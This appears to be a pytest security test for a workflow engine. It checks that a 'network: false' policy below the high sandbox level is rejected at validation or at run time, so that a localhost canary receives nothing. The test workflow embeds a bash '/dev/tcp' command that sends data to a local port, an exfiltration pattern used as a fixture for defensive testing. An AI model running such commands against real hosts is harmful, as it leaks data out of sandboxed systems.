"""Attack suite: a policy that asks for more than its level can do must not run quietly.

`network: false` at medium used to run the command with the whole network (no namespace at
that level): the canary on 127.0.0.1 received the data. A real workflow run now refuses to
start, and `plait validate` reports it.
"""

from __future__ import annotations

from pathlib import Path

import anyio
import pytest

from engine.errors import ConfigError, SpecError
from engine.executor import run_workflow
from engine.spec.loader import load_text
from tests.security.sec_helpers import Canary

pytestmark = pytest.mark.anyio


def _workflow(level: str, port: int) -> str:
    return (f"version: 1\nname: net\npolicies:\n  closed: {{level: {level}, network: false}}\n"
            "defaults:\n  policy: closed\nsteps:\n  send:\n"
            f"    run: \"bash -c 'echo leak > /dev/tcp/127.0.0.1/{port}'\"\n")


@pytest.mark.parametrize("level", ["low", "medium"])
def test_validate_reports_network_false_below_high(tmp_path: Path, level: str) -> None:
    with pytest.raises(SpecError) as excinfo:
        load_text(_workflow(level, 9), str(tmp_path / "w.yaml"))
    assert any("network: false" in i.message for i in excinfo.value.issues)


async def test_a_run_with_network_false_at_medium_refuses_to_start(
        tmp_path: Path, canary: Canary, monkeypatch: pytest.MonkeyPatch) -> None:
    """The level comes from SECURITY_DEFAULT_LEVEL (not in the file, so validate cannot see
    it): the run itself must refuse."""
    monkeypatch.setenv("SECURITY_DEFAULT_LEVEL", "medium")
    text = _workflow("medium", canary.tcp_port).replace("level: medium, ", "")
    wf = load_text(text, str(tmp_path / "w.yaml"))
    try:
        result = await run_workflow(wf, {}, record_state=False)
    except ConfigError as exc:
        assert "network: false" in exc.message
    else:
        assert not result.ok and "network: false" in str(result.error)
    await anyio.sleep(0.3)
    assert canary.received == []
